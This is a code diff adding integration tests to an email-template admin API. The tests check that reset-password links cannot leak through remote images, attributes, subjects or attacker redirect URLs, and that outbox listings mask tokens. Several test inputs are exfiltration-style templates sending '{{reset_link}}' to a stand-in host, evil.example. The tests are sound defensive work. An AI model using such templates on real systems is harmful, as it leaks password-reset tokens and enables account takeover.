@@ -3,6 +3,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { USER_DEFAULTS } from '@backoffice/contract';
+import { SEED_ROLES } from '../src/seed/seed.js';
 import type { Mailer } from '../src/core/mail/mailer.js';
 import { createTestApp, type TestContext } from './helpers/test-app.js';
 import { bearer, createUser, linkToken, readOutbox, signIn } from './helpers/auth.js';
@@ -51,6 +52,7 @@ describe('Email templates', () => {
     expect(reset.body.pl).toContain('{{reset_link}}');
     expect(reset.defaultBody).toEqual(reset.body);
     await template('new-account');
+    await template('email-changed');
     const config = (await call('GET', '/api/admin/email/template/config')).json();
     expect(config).toContainEqual({
       type: 'reset-password',
@@ -92,6 +94,31 @@ describe('Email templates', () => {
       version: reset.version + 5,
     });
     expect(stale.statusCode).toBe(409);
+  });
+
+  it('drops a remote image from a template body and keeps one from our uploads', async () => {
+    const reset = await template('reset-password');
+    const own = '/uploads/0b7c6f1e-3a7d-4c1e-9f6a-2b1c3d4e5f60/display.webp';
+    const res = await call('PUT', `/api/admin/email/template/${reset.id}`, admin, {
+      name: reset.name,
+      subject: reset.subject,
+      body: {
+        pl: `<p><a href="{{reset_link}}">{{reset_link}}</a></p><p><img src="https://evil.example/p.png" alt="x"><img src="${own}" alt="logo"></p>`,
+        en: reset.body.en,
+      },
+      version: reset.version,
+    });
+    expect(res.statusCode, res.body).toBe(200);
+    expect(res.json().body.pl).toBe(
+      `<p><a href="{{reset_link}}">{{reset_link}}</a></p><p><img src="${own}" alt="logo"></p>`,
+    );
+    const restored = await call('PUT', `/api/admin/email/template/${reset.id}`, admin, {
+      name: reset.name,
+      subject: reset.subject,
+      body: reset.body,
+      version: res.json().version,
+    });
+    expect(restored.statusCode, restored.body).toBe(200);
   });
 
   it('password reset and new-account emails use the edited templates, escaping the values', async () => {
@@ -219,6 +246,155 @@ describe('Email templates', () => {
     } finally {
       await other.close();
     }
+  });
+
+  it('refuses a password link in an image, an attribute or a link query, on the body field with its name; a plain link saves', async () => {
+    const reset = await template('reset-password');
+    const save = (en: string, version = reset.version) =>
+      call('PUT', `/api/admin/email/template/${reset.id}`, admin, {
+        name: reset.name,
+        subject: reset.subject,
+        body: { pl: reset.body.pl, en },
+        version,
+      });
+    // a remote image goes on save (the plain link keeps the required placeholder in the body)
+    for (const body of [
+      '<p><img src="https://evil.example/p.png?{{reset_link}}" alt="x"> <a href="{{reset_link}}">go</a></p>',
+      '<p><img src="{{reset_link}}" alt="x"> <a href="{{reset_link}}">go</a></p>',
+      '<p><a href="https://evil.example/?next={{reset_link}}">Set password</a></p>',
+      '<p><span style="color: red" title="{{reset_link}}">x</span> <a href="{{reset_link}}">go</a></p>',
+    ]) {
+      const refused = await save(body);
+      expect(refused.statusCode, body).toBe(400);
+      expect(codes(refused), body).toEqual([
+        'EMAIL_TEMPLATE:SECRET_PLACEHOLDER_OUTSIDE_LINK@body.en',
+      ]);
+      expect(refused.json().errors[0].message).toContain('{{reset_link}}');
+    }
+    const test = await call('POST', '/api/admin/email/template/test-message', admin, {
+      type: 'new-account',
+      email: 'tester@example.com',
+      subject: 'Test',
+      body: '<p><img src="https://evil.example/p.png?{{set_password_link}}"></p>',
+    });
+    expect(codes(test)).toEqual(['EMAIL_TEMPLATE:SECRET_PLACEHOLDER_OUTSIDE_LINK@body']);
+    expect(test.json().errors[0].message).toContain('{{set_password_link}}');
+
+    const plain = await save('<p><a href="{{reset_link}}">{{reset_link}}</a></p>');
+    expect(plain.statusCode, plain.body).toBe(200);
+    expect(plain.json().body.en).toBe('<p><a href="{{reset_link}}">{{reset_link}}</a></p>');
+  });
+
+  it('refuses a password link in the subject, on the subject field with its name, on save and on the test send', async () => {
+    const reset = await template('reset-password');
+    const refused = await call('PUT', `/api/admin/email/template/${reset.id}`, admin, {
+      name: reset.name,
+      subject: { pl: 'Reset {{reset_link}}', en: 'Reset {{ reset_link }}' },
+      body: reset.body,
+      version: reset.version,
+    });
+    expect(refused.statusCode).toBe(400);
+    expect(codes(refused)).toEqual([
+      'EMAIL_TEMPLATE:SECRET_PLACEHOLDER_OUTSIDE_LINK@subject.pl',
+      'EMAIL_TEMPLATE:SECRET_PLACEHOLDER_OUTSIDE_LINK@subject.en',
+    ]);
+    expect(refused.json().errors[0].message).toContain('{{reset_link}}');
+    expect((await template('reset-password')).subject).toEqual(reset.subject);
+
+    const test = await call('POST', '/api/admin/email/template/test-message', admin, {
+      type: 'new-account',
+      email: 'tester@example.com',
+      subject: 'Your link {{set_password_link}}',
+      body: '<p><a href="{{set_password_link}}">Set password</a></p>',
+    });
+    expect(test.statusCode).toBe(400);
+    expect(codes(test)).toEqual(['EMAIL_TEMPLATE:SECRET_PLACEHOLDER_OUTSIDE_LINK@subject']);
+    expect(test.json().errors[0].message).toContain('{{set_password_link}}');
+  });
+
+  it('refuses a password link as an href with NBSP before it (a relative link, resolved on the webmail host)', async () => {
+    const reset = await template('reset-password');
+    const refused = await call('PUT', `/api/admin/email/template/${reset.id}`, admin, {
+      name: reset.name,
+      subject: reset.subject,
+      body: { pl: reset.body.pl, en: '<p><a href="&nbsp;{{reset_link}}">Set password</a></p>' },
+      version: reset.version,
+    });
+    expect(refused.statusCode).toBe(400);
+    expect(codes(refused)).toEqual(['EMAIL_TEMPLATE:SECRET_PLACEHOLDER_OUTSIDE_LINK@body.en']);
+  });
+
+  it('sends a reset mail from a stored body nested 9,000 elements deep (under the rich-text limit), never a 500', async () => {
+    // stored past the sanitiser (as a restored backup would be), which takes it too long here
+    const { emailTemplate } = await import('../src/modules/email-templates/schema.js');
+    const { eq } = await import('drizzle-orm');
+    const reset = await template('reset-password');
+    const deep = `${'<span>'.repeat(9000)}<a href="{{reset_link}}">reset</a>`;
+    await ctx.database.db
+      .update(emailTemplate)
+      .set({ body: { pl: deep, en: deep } })
+      .where(eq(emailTemplate.id, reset.id));
+    try {
+      const user = await createUser(ctx.database.db);
+      const requested = await ctx.app.inject({
+        method: 'POST',
+        url: '/api/user/reset-password',
+        headers: { host: 'localhost:80', 'accept-language': 'en' },
+        payload: {
+          email: user.email,
+          activationUrlPattern: 'http://localhost:80/reset-password/:resetPasswordToken',
+        },
+      });
+      expect(requested.statusCode, requested.body).toBe(200);
+      expect(linkToken((await readOutbox(outbox, user.email)).text)).toMatch(/.+/);
+    } finally {
+      await ctx.database.db
+        .update(emailTemplate)
+        .set({ body: reset.body })
+        .where(eq(emailTemplate.id, reset.id));
+    }
+  });
+
+  it('the outbox is its own permission, which the content editor role lacks, and shows every password link as ••••', async () => {
+    expect(SEED_ROLES.find((role) => role.slug === 'content-editor')?.grants).not.toContain(
+      'admin:email:outbox',
+    );
+    const editor = await createUser(ctx.database.db, {
+      permissions: ['admin:email-template:list', 'admin:email-template:get'],
+    });
+    const editorHeaders = bearer(
+      (await signIn(ctx.app, editor.email, editor.password)).accessToken,
+    );
+    expect((await call('GET', '/api/admin/email/outbox', editorHeaders)).statusCode).toBe(403);
+
+    // the attack: a public reset for the super admin, then read the outbox
+    const requested = await ctx.app.inject({
+      method: 'POST',
+      url: '/api/user/reset-password',
+      headers: { 'accept-language': 'en' },
+      payload: {
+        email: TEST_ADMIN_EMAIL,
+        activationUrlPattern: 'http://localhost/reset-password/:resetPasswordToken',
+      },
+    });
+    expect(requested.statusCode).toBe(200);
+    const delivered = await readOutbox(outbox, TEST_ADMIN_EMAIL);
+    const token = linkToken(delivered.text); // the delivery keeps the live link
+    expect(token.length).toBeGreaterThan(10);
+
+    const reader = await createUser(ctx.database.db, { permissions: ['admin:email:outbox'] });
+    const readerHeaders = bearer(
+      (await signIn(ctx.app, reader.email, reader.password)).accessToken,
+    );
+    const listed = await call('GET', '/api/admin/email/outbox', readerHeaders);
+    expect(listed.statusCode).toBe(200);
+    expect(listed.body).not.toContain(token);
+    expect(listed.body).not.toContain(encodeURIComponent(token));
+    const shown = (listed.json().items as { to: string; html: string; text: string }[]).find(
+      (message) => message.to === TEST_ADMIN_EMAIL,
+    );
+    expect(shown?.html).toContain('href="http://localhost/reset-password/••••"');
+    expect(shown?.text).toContain('http://localhost/reset-password/••••');
   });
 
   it('checks permissions on every route', async () => {
